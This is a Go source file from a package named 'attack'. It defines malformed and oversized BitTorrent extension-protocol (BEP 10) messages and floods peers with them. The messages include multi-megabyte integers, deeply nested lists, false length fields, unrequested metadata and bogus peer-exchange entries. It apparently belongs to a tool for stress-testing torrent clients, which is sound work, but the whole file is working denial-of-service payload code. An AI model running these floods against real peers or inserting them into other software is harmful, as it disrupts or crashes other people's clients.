package attack

import (
	"fmt"
	"strings"
)

// extensions are kinds in messages of BEP 10.
var extensions = []Kind{
	{Name: "extension handshake of a huge integer", run: func(c *conn) error {
		return c.put(extended(0, "d1:xi"+strings.Repeat("9", 2<<20)+"ee"))
	}},
	{Name: "extension handshake of long integers", run: func(c *conn) error {
		m := extended(0, "d1:xi"+strings.Repeat("9", 60<<10)+"ee")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "extension handshake nested deeply", run: func(c *conn) error {
		m := extended(0, "d1:x"+strings.Repeat("l", 30<<10)+strings.Repeat("e", 30<<10)+"e")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "extension handshake of many keys", run: func(c *conn) error {
		var b strings.Builder
		b.WriteString("d1:md")
		for i := range 3000 {
			fmt.Fprintf(&b, "10:%010di%dee", i, i%250)
		}
		m := extended(0, b.String()[:b.Len()-1]+"ee")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "extension handshake with false lengths", run: func(c *conn) error {
		m := extended(0, "d1:m4294967295:x9:999999999e")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "extension handshakes", run: func(c *conn) error {
		return c.flood(func(i int) []byte {
			return extended(0, fmt.Sprintf("d1:md11:ut_metadatai1ee13:metadata_sizei%de4:reqqi%dee", 60<<20-i%9999, i))
		})
	}},
	{Name: "large extension messages of an unknown number", run: func(c *conn) error {
		m := extended(77, strings.Repeat("x", 900<<10))
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "large metadata messages", run: func(c *conn) error {
		m := extended(1, "d8:msg_typei1e5:piecei0ee"+strings.Repeat("x", 900<<10))
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "metadata that nobody asked for", run: func(c *conn) error {
		m := extended(1, "d8:msg_typei1e5:piecei0e10:total_sizei16384ee"+strings.Repeat("x", 16<<10))
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "metadata refusals", run: func(c *conn) error {
		m := extended(1, "d8:msg_typei2e5:piecei0ee")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "peer exchange", run: func(c *conn) error {
		m := extended(2, "d5:added6000:"+strings.Repeat("\x7f\x01\x02\x03\x1a\xe1", 1000)+"e")
		return c.flood(func(int) []byte { return m })
	}},
	{Name: "lost pieces", run: func(c *conn) error {
		return c.flood(func(i int) []byte { return extended(3, string(words(0, i%c.Pieces)[5:])) })
	}},
}
